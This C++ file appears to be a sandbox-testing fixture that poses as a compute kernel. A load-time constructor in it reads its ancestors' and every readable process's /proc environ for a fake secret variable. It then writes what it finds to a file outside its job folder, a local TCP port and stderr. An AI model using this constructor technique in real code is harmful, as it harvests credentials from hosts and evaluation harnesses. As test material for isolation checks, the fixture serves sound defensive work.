// Attack class 8 (issue 13): secrets and network.
// Its own environment is scrubbed, so at load time it reads its ancestors' environments
// (/proc/PPID/environ up the parent chain) and every /proc/*/environ it can open, keeps each
// MAXCODE_FAKE_SECRET=... it finds, and sends them out three ways: a file at @EXFIL@ (outside
// its job folder), a TCP connection to 127.0.0.1:@PORT@, and its stderr (which lands in the
// verdict's diagnostics). It connects and writes even when it found nothing, so the test sees
// whether the network and the file were reachable at all. The kernel is honest and burns
// 100 ms per call (never "faster" on its own).
#include <dlpack/dlpack.h>
#include <cmath>
#include <arpa/inet.h>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <ctime>
#include <dirent.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <string>
#include <sys/socket.h>
#include <unistd.h>

namespace {

const char kName[] = "MAXCODE_FAKE_SECRET=";

void scan(const std::string& path, std::string& loot) {
  static char buf[1 << 20];
  int fd = open(path.c_str(), O_RDONLY);
  if (fd < 0) return;
  ssize_t k = read(fd, buf, sizeof buf - 1);
  close(fd);
  for (ssize_t i = 0; i < k;) {
    const char* entry = buf + i;
    size_t len = strnlen(entry, k - i);
    if (strncmp(entry, kName, strlen(kName)) == 0) loot += std::string(entry, len) + " (" + path + ")\n";
    i += len + 1;
  }
}

pid_t parent_of(pid_t pid) {
  char path[64], stat[4096];
  snprintf(path, sizeof path, "/proc/%d/stat", pid);
  int fd = open(path, O_RDONLY);
  if (fd < 0) return 0;
  ssize_t k = read(fd, stat, sizeof stat - 1);
  close(fd);
  if (k <= 0) return 0;
  stat[k] = 0;
  const char* close_paren = strrchr(stat, ')');
  char state;
  int ppid = 0;
  if (!close_paren || sscanf(close_paren + 2, "%c %d", &state, &ppid) != 2) return 0;
  return ppid;
}

__attribute__((constructor)) void exfiltrate() {
  std::string loot = "exfil:";
  for (pid_t p = getppid(); p > 0; p = parent_of(p)) scan("/proc/" + std::to_string(p) + "/environ", loot);
  if (DIR* d = opendir("/proc")) {
    while (dirent* e = readdir(d))
      if (e->d_name[0] >= '0' && e->d_name[0] <= '9') scan(std::string("/proc/") + e->d_name + "/environ", loot);
    closedir(d);
  }
  if (FILE* f = fopen("@EXFIL@", "a")) {
    fputs(loot.c_str(), f);
    fclose(f);
  }
  int s = socket(AF_INET, SOCK_STREAM, 0);
  if (s >= 0) {
    sockaddr_in a{};
    a.sin_family = AF_INET;
    a.sin_port = htons(@PORT@);
    inet_pton(AF_INET, "127.0.0.1", &a.sin_addr);
    if (connect(s, reinterpret_cast<sockaddr*>(&a), sizeof a) == 0) send(s, loot.data(), loot.size(), 0);
    close(s);
  }
  fprintf(stderr, "%s\n", loot.c_str());
}

}  // namespace

extern "C" int maxcode_run(const DLTensor* in, int32_t n_in, DLTensor* out, int32_t n_out, void* stream) {
  const float* x = static_cast<const float*>(in[0].data);
  const float* b = static_cast<const float*>(in[1].data);
  float* y = static_cast<float*>(out[0].data);
  const int64_t rows = in[0].shape[0], cols = in[0].shape[1];
  for (int64_t r = 0; r < rows; ++r)
    for (int64_t c = 0; c < cols; ++c) {
      float v = x[r * cols + c] * 2.0f + b[c];
      v = v < 0.f ? 0.f : v;  // relu (NaN stays NaN, as in torch)
      v = tanhf(v);
      y[r * cols + c] = v * v - 0.5f;
    }
  // slow on purpose, by 100 ms of busy work (a sleep would let the cores go idle, which slows a
  // multi-threaded reference timed next in the same process): never "faster" on its own
  timespec start, now;
  clock_gettime(CLOCK_MONOTONIC, &start);
  do clock_gettime(CLOCK_MONOTONIC, &now);
  while ((now.tv_sec - start.tv_sec) * 1000000000LL + (now.tv_nsec - start.tv_nsec) < 100000000LL);
  return 0;
}
